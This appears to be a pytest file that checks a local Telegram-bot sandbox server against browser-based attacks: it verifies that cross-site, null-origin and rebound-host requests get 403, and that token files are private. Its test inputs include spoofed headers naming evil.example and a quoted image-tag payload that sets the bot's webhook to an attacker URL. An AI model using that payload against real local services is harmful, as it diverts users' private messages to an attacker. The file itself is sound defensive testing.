"""The sandbox serves only the person at this machine: attacks that a web page can try through that person's browser."""

from __future__ import annotations

import os
import socket
import stat
import tempfile
from pathlib import Path

import httpx
import pytest

from bot.sandbox.config import MADE_UP_TOKEN, SandboxConfig, token_in
from bot.sandbox.server import serve
from tests.support.people import ANN, Telegram

PATHS = ["/sandbox/state", f"/bot{MADE_UP_TOKEN}/getMe", "/", "/static/js/main.js", "/v1beta/models"]
FROM_ELSEWHERE = [
    {"sec-fetch-site": "cross-site", "sec-fetch-mode": "no-cors"},
    {"sec-fetch-site": "same-site", "sec-fetch-mode": "cors"},
    {"origin": "https://evil.example"},
    {"origin": "null"},
    {"host": "evil.example", "origin": "http://evil.example", "sec-fetch-site": "same-origin"},
    {"host": "evil.example:8080"},
]


@pytest.mark.parametrize("headers", FROM_ELSEWHERE, ids=str)
@pytest.mark.parametrize("path", PATHS)
async def test_a_page_of_another_site_reaches_no_route(telegram: Telegram, path: str, headers: dict[str, str]) -> None:
    answer = await telegram.http.get(path, headers=headers)
    assert answer.status_code == 403
    assert (await telegram.http.post(path, headers=headers, json={})).status_code == 403


async def test_a_picture_in_a_web_page_cannot_carry_the_diary_away(telegram: Telegram) -> None:
    """This attack worked once: ``<img src="http://127.0.0.1:8080/bot<token>/setWebhook?url=...">``."""
    image = {"sec-fetch-site": "cross-site", "sec-fetch-mode": "no-cors", "sec-fetch-dest": "image"}
    where = f"/bot{telegram.token}/setWebhook?url=https://evil.example/hook"
    assert (await telegram.http.get(where, headers=image)).status_code == 403
    assert (await telegram.api("getWebhookInfo"))["result"]["url"] == ""


async def test_the_page_itself_and_programs_are_let_in(telegram: Telegram) -> None:
    port = telegram.http.base_url.port
    own = {"sec-fetch-site": "same-origin", "sec-fetch-mode": "cors", "origin": f"http://127.0.0.1:{port}"}
    assert (await telegram.http.get("/sandbox/state", headers=own)).json()["me"]["id"] == ANN
    typed = {"sec-fetch-site": "none", "sec-fetch-mode": "navigate"}
    followed = {"sec-fetch-site": "cross-site", "sec-fetch-mode": "navigate"}
    for headers in (typed, followed, {"host": f"localhost:{port}"}, {"host": f"[::1]:{port}"}):
        assert (await telegram.http.get("/", headers=headers)).status_code == 200


async def test_a_sandbox_that_serves_a_network_is_reached_by_addresses_and_not_by_strange_names() -> None:
    async with serve(SandboxConfig(), "0.0.0.0") as url, httpx.AsyncClient(base_url=url, trust_env=False) as http:  # noqa: S104
        assert (await http.get("/")).status_code == 200
        assert (await http.get("/", headers={"host": "192.168.1.7:8080"})).status_code == 200
        assert (await http.get("/", headers={"host": "evil.example"})).status_code == 403


def test_each_folder_has_a_token_of_its_own_that_only_its_owner_reads(tmp_path: Path) -> None:
    one, two = token_in(tmp_path / "one"), token_in(tmp_path / "two")
    assert len({one, two, MADE_UP_TOKEN}) == 3
    assert token_in(tmp_path / "one") == one
    assert stat.S_IMODE((tmp_path / "one" / "token").stat().st_mode) == 0o600
    (tmp_path / "one" / "token").write_text("7000000001:AA")
    assert len(token_in(tmp_path / "one")) == len(one)


async def test_a_sandbox_whose_port_is_taken_leaves_no_folder_behind(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    with socket.create_server(("127.0.0.1", 0)) as taken, pytest.raises(OSError, match="in use"):
        async with serve(SandboxConfig(), port=taken.getsockname()[1]):
            pass
    assert os.listdir(tmp_path) == []
